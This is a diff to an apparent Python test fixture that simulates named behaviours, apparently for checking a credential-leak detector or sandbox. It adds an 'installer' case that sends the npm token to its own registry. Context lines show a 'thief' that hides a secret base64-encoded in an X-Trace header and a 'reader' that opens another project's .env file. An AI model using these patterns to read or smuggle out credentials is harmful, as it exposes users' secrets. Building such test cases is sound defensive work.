@@ -39,6 +39,13 @@ def thief():
     ask("X-Trace: " + binascii.b2a_base64(b"t:" + secret.encode(), newline=False).decode())
 
 
+def installer():
+    """Uses a token where it belongs, as a package manager does."""
+    token = read("~/.npmrc").split("_authToken=")[1].strip()
+    post("registry.npmjs.org", 80, "/some-package", ("Authorization: Bearer " + token,), b"")
+    ask()
+
+
 def reader():
     read("../other/.env")
     ask()
@@ -79,6 +86,12 @@ def careful():
 
 
 if __name__ == "__main__":
-    {"thief": thief, "reader": reader, "chatty": chatty, "writer": writer, "obedient": obedient, "careful": careful}[
-        sys.argv[1]
-    ]()
+    {
+        "thief": thief,
+        "installer": installer,
+        "reader": reader,
+        "chatty": chatty,
+        "writer": writer,
+        "obedient": obedient,
+        "careful": careful,
+    }[sys.argv[1]]()
